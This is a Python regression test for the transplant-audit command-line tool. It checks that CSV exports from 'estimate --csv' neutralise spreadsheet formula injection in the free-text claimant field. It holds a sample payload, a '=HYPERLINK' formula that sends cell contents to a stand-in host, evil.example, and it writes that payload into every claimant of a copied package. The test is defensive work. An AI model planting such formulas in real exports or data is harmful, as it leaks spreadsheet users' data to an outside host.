"""``estimate --csv DIR`` must not hand a spreadsheet a formula (x7's adversarial audit).

The claimant of a claim is free text from an imported package; ``comparison.csv``,
``official.csv`` and ``implied_utilisation.csv`` carry it. On main a claimant
``=HYPERLINK(...)`` reached those files unchanged, so opening them in a spreadsheet ran it.
The package is the bundled one with every claimant replaced: SYNTHETIC hostile text.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

from transplant_audit.paths import bundled_package_dir

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = shutil.which("transplant-audit")


def _hostile_package(dest: Path) -> Path:
    shutil.copytree(bundled_package_dir(), dest)
    desc = json.loads((dest / "datapackage.json").read_text("utf-8"))
    for res in desc["resources"]:  # the edit below changes the bytes: drop hash and size
        res.pop("hash", None)
        res.pop("bytes", None)
    (dest / "datapackage.json").write_text(json.dumps(desc, indent=1), "utf-8")
    with (dest / "claims.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    col = rows[0].index("claimant")
    for row in rows[1:]:
        row[col] = FORMULA
    with (dest / "claims.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    return dest


def test_estimate_csv_neutralises_a_formula_claimant(tmp_path: Path) -> None:
    assert SCRIPT is not None, "transplant-audit console script not on PATH"
    env = {**os.environ, "TRANSPLANT_AUDIT_HOME": str(tmp_path / "home")}
    pkg = _hostile_package(tmp_path / "pkg")
    for args in (["import", str(pkg)], ["estimate", "--draws", "100", "--csv", "out"]):
        proc = subprocess.run(
            [SCRIPT, *args], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300
        )
        assert proc.returncode == 0, proc.stderr
    text = "\n".join(p.read_text("utf-8") for p in (tmp_path / "out").glob("*.csv"))
    assert "HYPERLINK" in text  # the claimant is still exported ...
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.M)  # ... never as a formula
    assert "'=HYPERLINK" in text
    assert re.search(r"^2008,", (tmp_path / "out" / "official.csv").read_text("utf-8"), re.M)
